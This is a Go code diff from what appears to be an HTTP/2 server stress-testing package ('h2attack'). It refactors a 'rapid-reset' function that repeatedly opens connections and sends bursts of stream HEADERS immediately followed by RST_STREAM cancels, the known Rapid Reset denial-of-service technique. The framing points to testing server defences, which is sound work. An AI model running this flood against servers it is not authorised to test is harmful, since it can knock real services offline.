@@ -4,7 +4,6 @@ import (
 	"context"
 	"fmt"
 	"strings"
-	"sync"
 	"time"
 
 	"github.com/hotpathhq/hotpath/wire/h2"
@@ -238,63 +237,12 @@ func SlowReader(ctx context.Context, cfg Config) (Result, error) {
 // streams are gone, but a handler that ignores its context runs on) and
 // cut connections that reset too fast.
 func RapidReset(ctx context.Context, cfg Config) (Result, error) {
-	r := newRun("rapid-reset", cfg)
-	n := cfg.Conns
-	if n <= 0 {
-		n = 4
-	}
-	path := cfg.path("/delay/30000")
-	var (
-		wg      sync.WaitGroup
-		mu      sync.Mutex
-		lastErr error
-	)
-	for range n {
-		wg.Go(func() {
-			for ctx.Err() == nil {
-				c, err := r.dial(ctx, dialOpts{})
-				if err != nil {
-					mu.Lock()
-					lastErr = err
-					mu.Unlock()
-					sleep(ctx, 10*time.Millisecond)
-					continue
-				}
-				r.onHold()
-				c.resetBurst(ctx, path)
-				c.close()
-			}
+	return reconnecting(ctx, cfg, "rapid-reset", func(ctx context.Context, c *conn, path string) {
+		c.burst(ctx, func(b []byte, id uint32, blk []byte) []byte {
+			b = h2.AppendHeaders(b, id, h2.FlagEndHeaders|h2.FlagEndStream, h2.Priority{}, blk, 0)
+			return h2.AppendRSTStream(b, id, h2.ErrCodeCancel)
 		})
-	}
-	wg.Wait()
-	if r.conns.Load() == 0 {
-		return r.result(), fmt.Errorf("h2attack: rapid-reset made no connection: %v", lastErr)
-	}
-	return r.result(), nil
-}
-
-// resetBurst opens and resets streams, 50 to a write, until ctx ends, the
-// server sends GOAWAY or closes, or the stream identifiers run out.
-func (c *conn) resetBurst(ctx context.Context, path string) {
-	var b []byte
-	for ctx.Err() == nil && !c.isClosed() && !c.sawGoAway() {
-		c.wmu.Lock()
-		b = b[:0]
-		n := 0
-		for ; n < 50 && c.nextID <= h2.MaxStreamID; n++ {
-			id := c.nextID
-			c.nextID += 2
-			c.scratch = c.requestBlockLocked("GET", path)
-			b = h2.AppendHeaders(b, id, h2.FlagEndHeaders|h2.FlagEndStream, h2.Priority{}, c.scratch, 0)
-			b = h2.AppendRSTStream(b, id, h2.ErrCodeCancel)
-		}
-		c.r.streams.Add(int64(n))
-		err := c.writeLocked(b)
-		c.wmu.Unlock()
-		if err != nil || n == 0 {
-			return
-		}
-	}
+	})
 }
 
 // floodFrames is how many frames a flood sends in one write.
